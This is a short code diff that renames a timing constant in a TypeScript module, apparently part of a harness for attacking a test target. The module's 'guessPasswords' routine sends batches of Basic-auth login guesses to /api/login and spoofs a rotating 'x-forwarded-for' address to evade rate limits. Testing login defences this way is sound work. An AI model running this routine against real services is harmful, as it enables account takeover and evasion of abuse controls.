@@ -4,7 +4,7 @@ import type { Attack } from './target.ts'
 
 const atOnce = 200
 /** Before whoever was refused tries again. */
-const between = 250
+const INTERVAL_MS = 250
 
 /** Guesses passwords, from an address that changes every time: half of the time of somebody who is known. */
 export const guessPasswords: Attack = async ({ url, besieged }) => {
@@ -16,7 +16,7 @@ export const guessPasswords: Attack = async ({ url, besieged }) => {
       const authorization = `Basic ${Buffer.from(`${name}:${guess}`).toString('base64')}`
       const headers = { authorization, 'x-forwarded-for': addressOf(turn) }
       const sent = await send(`${url}/api/login`, { method: 'POST', headers, agent, signal })
-      if (sent.status !== 401) await pause(between, signal)
+      if (sent.status !== 401) await pause(INTERVAL_MS, signal)
       return sent
     })
     agent.destroy()
